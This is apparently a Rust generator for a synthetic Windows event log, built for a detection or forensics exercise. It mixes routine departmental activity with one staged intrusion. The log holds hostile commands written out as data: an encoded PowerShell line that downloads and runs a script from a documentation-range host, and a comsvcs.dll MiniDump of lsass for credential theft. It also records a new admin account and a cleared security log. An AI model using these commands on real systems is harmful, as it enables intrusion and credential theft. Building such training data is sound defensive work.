//! Five weeks of the event log of one department's Windows machines, as JSON lines, about 2,000 of them.
//!
//! In it, on the evening judged for: a document opened at one workstation starts PowerShell, passwords are taken
//! from memory, the department's server is entered, gets a service and an account, and its log is emptied. Every
//! event is invented and carries the mark of samples.

use crate::moment::{hours_before, local, minutes_after, minutes_before};
use crate::random::Random;
use jiff::Timestamp;
use jiff::tz::Offset;

/// The file below the facts folder.
pub(crate) const FILE: &str = "logs/su-kien-windows-vhtt.ndjson";
/// The department.
pub(crate) const UNIT: &str = "VHTT";
/// How many days the log reaches back.
pub(crate) const DAYS: i64 = 35;

/// Ordinary events.
const ORDINARY: u32 = 2_000;
/// The workstation where the document was opened.
const ENTERED: &str = "VHTT-PC-07";
/// The server that was entered from there.
const SERVER: &str = "VHTT-SRV-01";
/// Where the intruder's files come from; on no list of the demo.
const INTRUDER: &str = "203.0.113.231";
/// `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.231/a.ps1')`, as `-enc` takes it.
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgAyADMAMQAvAGEALgBwAHMAMQAnACkA";

/// A log of Windows with its provider.
#[derive(Clone, Copy)]
struct Channel {
    name: &'static str,
    provider: &'static str,
}

const SYSMON: Channel = Channel {
    name: "Microsoft-Windows-Sysmon/Operational",
    provider: "Microsoft-Windows-Sysmon",
};
const SECURITY: Channel = Channel {
    name: "Security",
    provider: "Microsoft-Windows-Security-Auditing",
};
const CLEARED: Channel = Channel {
    name: "Security",
    provider: "Microsoft-Windows-Eventlog",
};
const SERVICES: Channel = Channel {
    name: "System",
    provider: "Service Control Manager",
};

/// One event.
struct Record {
    at: Timestamp,
    computer: String,
    channel: Channel,
    id: u32,
    data: Vec<(&'static str, String)>,
}

/// The log's text and its number of lines.
pub(crate) fn text(seed: u64, as_of: Timestamp) -> (String, usize) {
    let mut random = Random::new(seed, 3);
    let mut records = ordinary(&mut random, as_of);
    records.extend(attack(as_of));
    records.sort_by_key(|record| record.at);
    let lines: Vec<String> = records
        .iter()
        .zip(1_u64..)
        .map(|(record, number)| print(record, number))
        .collect();
    (lines.concat(), lines.len())
}

/// The server is up day and night, people work by day.
fn ordinary(random: &mut Random, as_of: Timestamp) -> Vec<Record> {
    let start = hours_before(as_of, 24 * DAYS);
    let minutes = 24 * 60 * DAYS;
    (0..ORDINARY)
        .map(|number| {
            let step = i64::from(number) * minutes / i64::from(ORDINARY);
            let at = minutes_after(start, step + random.between(0, 20));
            let at = at.min(minutes_before(as_of, 1));
            let hour = Offset::constant(7).to_datetime(at).hour();
            if (8..17).contains(&hour) && random.chance(85) {
                by_day(random, at)
            } else {
                by_night(random, at)
            }
        })
        .collect()
}

fn by_day(random: &mut Random, at: Timestamp) -> Record {
    let number = random.between(1, 20);
    let computer = format!("{UNIT}-PC-{number:02}");
    let user = format!("can.bo.{number:02}");
    match random.below(4) {
        0 => signed_in(at, &computer, &user, "2", "-"),
        1 => {
            let peer = format!("192.0.2.{}", random.between(1, 60));
            connected(at, &computer, &user, BROWSER, &peer)
        }
        _ => {
            let image = random.pick(&[
                BROWSER,
                r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
                r"C:\Windows\System32\notepad.exe",
                r"C:\Program Files\PhanMemMotCua\motcua.exe",
            ]);
            let line = format!("\"{image}\"");
            let parent = r"C:\Windows\explorer.exe";
            started(at, &computer, &user, image, &line, parent)
        }
    }
}

const BROWSER: &str = r"C:\Program Files\Google\Chrome\Application\chrome.exe";

fn by_night(random: &mut Random, at: Timestamp) -> Record {
    match random.below(3) {
        0 => {
            let from = format!("10.24.3.{}", random.between(12, 31));
            signed_in(at, SERVER, "sao.luu", "3", &from)
        }
        1 => Record {
            at,
            computer: SERVER.to_owned(),
            channel: SERVICES,
            id: 7036,
            data: vec![
                ("param1", "Windows Update".to_owned()),
                ("param2", random.pick(&["running", "stopped"]).to_owned()),
            ],
        },
        _ => started(
            at,
            SERVER,
            "SYSTEM",
            r"C:\Program Files\SaoLuu\saoluu.exe",
            r#""C:\Program Files\SaoLuu\saoluu.exe" --hang-ngay"#,
            r"C:\Windows\System32\services.exe",
        ),
    }
}

/// What the intruder did in thirty-five minutes of the evening.
fn attack(as_of: Timestamp) -> Vec<Record> {
    let begin = minutes_before(as_of, 110).max(local(crate::moment::FIRST_DAY, 0, 0));
    let at = |minutes| minutes_after(begin, minutes);
    let user = "can.bo.07";
    let temp = r"C:\Users\can.bo.07\AppData\Local\Temp\capnhat.exe";
    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let cmd = r"C:\Windows\System32\cmd.exe";
    let word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    let hidden = format!("powershell.exe -nop -w hidden -enc {ENCODED}");
    let dump =
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 684 C:\Users\Public\a.bin full";
    let rundll = r"C:\Windows\System32\rundll32.exe";
    let mut records = vec![
        started(
            at(0),
            ENTERED,
            user,
            cmd,
            &format!("cmd.exe /c {hidden}"),
            word,
        ),
        started(at(0), ENTERED, user, powershell, &hidden, cmd),
        connected(at(1), ENTERED, user, powershell, INTRUDER),
        Record {
            at: at(14),
            computer: ENTERED.to_owned(),
            channel: SYSMON,
            id: 10,
            data: vec![
                ("SourceImage", temp.to_owned()),
                ("TargetImage", r"C:\Windows\System32\lsass.exe".to_owned()),
                ("GrantedAccess", "0x1010".to_owned()),
                ("SourceUser", format!(r"AN-MAU\{user}")),
            ],
        },
        started(at(21), ENTERED, user, rundll, dump, temp),
        signed_in(at(27), SERVER, "quan.tri", "3", "10.24.3.18"),
    ];
    records.extend(on_server(&at));
    records
}

/// The server: a service, an account among its administrators, an emptied log.
fn on_server(at: &dyn Fn(i64) -> Timestamp) -> Vec<Record> {
    const SID: &str = "S-1-5-21-1004336348-1177238915-682003330-1142";
    let by = || ("SubjectUserName", "quan.tri".to_owned());
    let record = |minutes, channel, id, data| Record {
        at: at(minutes),
        computer: SERVER.to_owned(),
        channel,
        id,
        data,
    };
    vec![
        record(
            29,
            SERVICES,
            7045,
            vec![
                ("ServiceName", "HoTroCapNhat".to_owned()),
                ("ImagePath", r"C:\Windows\Temp\svc.exe".to_owned()),
                ("StartType", "auto start".to_owned()),
                ("AccountName", "LocalSystem".to_owned()),
            ],
        ),
        record(
            31,
            SECURITY,
            4720,
            vec![
                ("TargetUserName", "hotro2".to_owned()),
                ("TargetSid", SID.to_owned()),
                by(),
            ],
        ),
        record(
            32,
            SECURITY,
            4732,
            vec![
                ("MemberSid", SID.to_owned()),
                ("TargetUserName", "Administrators".to_owned()),
                ("TargetSid", "S-1-5-32-544".to_owned()),
                by(),
            ],
        ),
        record(35, CLEARED, 1102, vec![by()]),
    ]
}

fn started(
    at: Timestamp,
    computer: &str,
    user: &str,
    image: &str,
    line: &str,
    parent: &str,
) -> Record {
    Record {
        at,
        computer: computer.to_owned(),
        channel: SYSMON,
        id: 1,
        data: vec![
            ("Image", image.to_owned()),
            ("CommandLine", line.to_owned()),
            ("ParentImage", parent.to_owned()),
            ("User", format!(r"AN-MAU\{user}")),
        ],
    }
}

fn connected(at: Timestamp, computer: &str, user: &str, image: &str, peer: &str) -> Record {
    Record {
        at,
        computer: computer.to_owned(),
        channel: SYSMON,
        id: 3,
        data: vec![
            ("Image", image.to_owned()),
            ("User", format!(r"AN-MAU\{user}")),
            ("Protocol", "tcp".to_owned()),
            ("DestinationIp", peer.to_owned()),
            ("DestinationPort", "443".to_owned()),
        ],
    }
}

fn signed_in(at: Timestamp, computer: &str, user: &str, kind: &str, from: &str) -> Record {
    Record {
        at,
        computer: computer.to_owned(),
        channel: SECURITY,
        id: 4624,
        data: vec![
            ("TargetUserName", user.to_owned()),
            ("TargetDomainName", "AN-MAU".to_owned()),
            ("LogonType", kind.to_owned()),
            ("IpAddress", from.to_owned()),
        ],
    }
}

/// One line as collectors write Windows events; the mark of samples stands where Sysmon puts the name of its rule.
fn print(record: &Record, number: u64) -> String {
    let (channel, computer) = (record.channel, &record.computer);
    let fields = record.data.iter();
    let fields = fields.map(|(name, value)| format!(",\"{name}\":\"{}\"", escaped(value)));
    let data: String = fields.collect();
    format!(
        "{{\"Event\":{{\"System\":{{\"Provider\":{{\"#attributes\":{{\"Name\":\"{}\"}}}},\"EventID\":{},\"EventRecordID\":{number},\"TimeCreated\":{{\"#attributes\":{{\"SystemTime\":\"{}\"}}}},\"Channel\":\"{}\",\"Computer\":\"{computer}.an-mau.example\"}},\"EventData\":{{\"RuleName\":\"MẪU\"{data}}}}}}}\n",
        channel.provider, record.id, record.at, channel.name,
    )
}

/// A text inside the quotes of JSON; the sample has no control characters.
fn escaped(text: &str) -> String {
    text.replace('\\', "\\\\").replace('"', "\\\"")
}
